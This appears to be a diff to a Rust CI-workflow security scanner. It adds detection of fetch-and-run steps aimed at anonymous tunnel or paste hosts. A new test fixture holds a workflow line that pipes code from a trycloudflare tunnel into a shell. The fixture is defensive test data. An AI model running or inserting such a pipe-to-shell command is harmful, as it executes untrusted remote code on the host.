@@ -8,7 +8,9 @@
 //!   env: { TOKEN: "${{ secrets.TOKEN }}" }
 //! ```
 
+use crate::destination;
 use crate::flow::command::REMOTE_CODE;
+use crate::flow::trace::ObservationKind;
 use crate::signal::Signal;
 use crate::technique::{Evidence, Sighting, Technique};
 
@@ -36,7 +38,17 @@ impl Technique for RemoteCode {
             signals: [Signal::RemoteCode].into(),
             ..Sighting::default()
         };
-        groups.into_iter().map(sighting).collect()
+        let mut found: Vec<Sighting> = groups.into_iter().map(sighting).collect();
+        // Without secrets around it, where nobody's name stands behind the address: a tunnel, a paste, a request bin.
+        let nameless = evidence.trace.observations.iter().enumerate().find(|(_, observation)| {
+            observation.kind == ObservationKind::RemoteCode
+                && destination::of_address(&observation.detail).is_drop_box()
+        });
+        if let Some((at, _)) = nameless {
+            let signals = [Signal::RemoteCode, Signal::DropBox].into();
+            found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
+        }
+        found
     }
 }
 
@@ -53,6 +65,17 @@ mod tests {
             Verdict::Exposed,
             &["T"],
             &["install.example"],
+        );
+    }
+
+    #[test]
+    fn code_from_a_tunnel() {
+        check(
+            "remote-code",
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://x.trycloudflare.com/s | sh\n",
+            Verdict::Suspicious,
+            &[],
+            &[],
         );
     }
 
